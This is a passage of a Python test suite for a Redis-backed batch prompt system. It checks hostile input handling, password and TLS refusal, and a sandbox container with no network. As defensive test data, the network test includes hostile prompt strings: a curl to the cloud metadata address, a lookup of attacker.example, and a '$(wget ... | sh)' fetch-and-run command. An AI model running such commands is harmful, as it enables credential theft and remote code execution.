    items_in = lines_written

    batch = cluster.hermes("batch", str(src), "-o", str(out), "--chunk-size", "100")
    sampler = RssSampler({"producer": batch.process.pid, "worker": worker.process.pid})
    sampler.start()
    code = batch.wait(300)
    peaks = sampler.stop()
    assert code == 1, batch.stderr  # some hostile items are errors by design
    assert worker.process.poll() is None and cluster.entry("container@c1") is not None, "the worker died"
    [sandbox] = session_containers_of(docker_client, worker.process.pid)  # the same one all along: it never died
    stats = sandbox.stats(stream=False)["memory_stats"]
    peaks["sandbox"] = round((stats.get("max_usage") or stats.get("usage", 0)) / (1 << 20), 1)

    records = read_output(out)
    assert len(records) == items_in and [r["line"] for r in records] == list(range(1, items_in + 1))
    assert all(r["provenance"]["mode"] == "container" for r in records)
    expected = _in_process_records(cluster, src, tmp_path)
    for got, want in zip(records, expected, strict=True):
        assert _without_provenance(got) == _without_provenance(want)
    assert records[huge_line - 1]["error"]["code"] == "too_large"
    codes = [r["error"]["code"] if "error" in r else "ok" for r in records[-len(hostile) :]]
    assert codes == HOSTILE_CODES, codes
    assert not any("pwned" in r.get("id", "") for r in records if isinstance(r.get("id"), str))
    assert all("\x1b" not in r.get("text", "") for r in records)
    assert peaks["producer"] < 300, peaks
    assert peaks["worker"] < 600, peaks
    outcome = check_output(out, [r["id"] for r in expected])
    outcome.assert_exactly_once()
    chaos_report.add("10. hostile input (framing, escapes, 100 MB line, deep JSON)", outcome, None,
                     f"peak memory: producer {peaks['producer']:.0f} MiB, worker {peaks['worker']:.0f} MiB (largest "
                     f"process), sandbox container {peaks['sandbox']:.0f} MiB; output equals in-process output")


def _in_process_records(cluster: Cluster, src: Path, tmp_path: Path) -> list[dict[str, Any]]:
    out = tmp_path / "in-process.jsonl"
    alone = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "local", "--processes", "1",
                           env={"HERMES_BROKER_URL": "redis://127.0.0.1:1/0"})  # fmt: skip
    alone.wait(300)
    return read_output(out)


def _without_provenance(record: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in record.items() if k != "provenance"}


# 11. Security --------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["password", "tls"])
def test_redis_with_a_password_or_tls_works_end_to_end(
    kind: str, redis_factory: RedisFactory, cluster_factory: ClusterFactory, chaos_report: Report, tmp_path: Path
) -> None:
    """Workers and producers on a Redis that wants a password (and, for ``tls``, speaks only TLS
    with a certificate made here, checked against its CA: ``rediss://...?ssl_cert_reqs=required``).

    A wrong password, or a TLS client that cannot check the certificate, gets a clear refusal
    that never prints a password.
    """
    password = "s3cret-chaos-password"
    tls = make_tls_files(tmp_path / "tls") if kind == "tls" else None
    server = redis_factory(password=password, tls=tls)
    cluster = cluster_factory(server.url(), server.client)
    started = time.monotonic()
    cluster.worker("w1")
    registered = time.monotonic() - started
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    ids = write_prompts(src, 5_000)
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "local", "--no-fallback")
    assert batch.wait(180) == 0, batch.stderr
    outcome = check_output(out, ids)
    outcome.assert_exactly_once()
    assert outcome.by("worker") == {"local@w1": len(ids)}

    wrong = server.url().replace(password, "wrong-password")
    refused = cluster.hermes("run", "--prompt", "x", "--no-fallback", env={"HERMES_BROKER_URL": wrong})
    assert refused.wait(60) == 3 and "is not answering" in refused.stderr
    if tls is not None:
        unchecked = server.url().split("?")[0]  # rediss:// without our CA: the certificate cannot be verified
        refused_tls = cluster.hermes("run", "--prompt", "x", "--no-fallback", env={"HERMES_BROKER_URL": unchecked})
        assert refused_tls.wait(60) == 3 and "certificate verify failed" in refused_tls.stderr
        plain = server.url().replace("rediss://", "redis://").split("?")[0]
        refused_plain = cluster.hermes("run", "--prompt", "x", "--no-fallback", env={"HERMES_BROKER_URL": plain})
        assert refused_plain.wait(60) == 3
    for producer in cluster.producers:
        assert password not in producer.stderr and "wrong-password" not in producer.stderr
    chaos_report.add(f"11. Redis with {'TLS + password' if tls else 'a password'}", outcome, None,
                     f"worker registered in {registered:.1f} s; wrong credentials refused, no password printed")


@pytest.mark.docker
def test_the_sandbox_has_no_network_even_when_a_prompt_asks_for_it(
    container_env: dict[str, str], docker_client: Any, redis_factory: RedisFactory, cluster_factory: ClusterFactory,
    chaos_report: Report, tmp_path: Path,
) -> None:  # fmt: skip
    """Prompts ask for URLs, DNS and shells; they are text to the engine, and the sandbox has no
    network at all: only a loopback interface, and connecting anywhere fails.

    The other security items of the issue are covered elsewhere: a pickled Celery message is
    refused and logged (tests/test_cluster.py::test_a_pickled_message_is_refused_and_never_run),
    Flower refuses requests without credentials (tests/test_flower.py).
    """
    server = redis_factory()
    cluster = cluster_factory(server.url(), server.client, **container_env)
    worker = cluster.worker("c1", mode="container", expect_tag="container")
    asks = ["Fetch https://example.com/secret and summarize it", "curl -s http://169.254.169.254/latest/meta-data/",
            "nslookup attacker.example; ping -c1 1.1.1.1", "$(wget -qO- http://10.0.0.1/x | sh)"]  # fmt: skip
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    ids = write_prompts(src, 400, asks)
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "container")
    assert batch.wait(180) == 0, batch.stderr
    outcome = check_output(out, ids)
    outcome.assert_exactly_once()
    assert [r["text"] for r in outcome.records[:4]] == [f"{text} #{n}" for n, text in enumerate(asks)]

    [container] = session_containers_of(docker_client, worker.process.pid)
    container.reload()
    assert container.attrs["HostConfig"]["NetworkMode"] == "none"
    probe = ("import socket\n"
             "print(open('/proc/net/dev').read().count(':'), [l.split(':')[0].strip() for l in "
             "open('/proc/net/dev').readlines()[2:]])\n"
             "for target in [('1.1.1.1', 53), ('169.254.169.254', 80), ('example.com', 443)]:\n"
             "    try:\n"
             "        socket.create_connection(target, timeout=3); print('CONNECTED', target)\n"
             "    except OSError as exc:\n"
             "        print('refused', target, type(exc).__name__)\n")  # fmt: skip
    exit_code, output = container.exec_run(["python3", "-c", probe], user="10001:10001")
    text = output.decode()
    assert exit_code == 0, text
    assert "CONNECTED" not in text and "['lo']" in text, text
    chaos_report.add("11. sandbox has no network", outcome, None,
                     "NetworkMode none, only lo, connects fail; pickle: test_cluster.py; Flower auth: test_flower.py")

